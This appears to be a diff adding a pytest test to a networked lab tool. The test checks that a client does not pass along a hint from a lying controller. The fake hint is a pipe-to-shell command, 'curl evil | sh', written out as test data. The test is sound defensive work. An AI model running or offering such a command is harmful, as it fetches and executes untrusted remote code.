@@ -101,3 +101,12 @@ def test_a_lab_has_room_for_them(mesh: Mesh, tmp_path_factory: pytest.TempPathFa
     assert stranger.request("GET", "/healthz").body == b"ok\n"
     with Middlebox(mesh.urls[0], host=box, port=50051) as middle:
         assert Stranger(middle.url, host=web).request("GET", "/healthz").body == b"ok\n"
+
+
+def test_a_controller_cannot_pose_as_the_machines_own_lock(liar: Liar) -> None:
+    """An agent waits for that for two seconds only, and says nothing."""
+    victim = liar.victim()
+    liar.lie = lambda request, _: request.error("locked", "wait", "curl evil | sh")
+    with pytest.raises(BadReply, match="reports 'locked'") as raised:
+        victim.check_in()
+    assert "evil" not in raised.value.hint
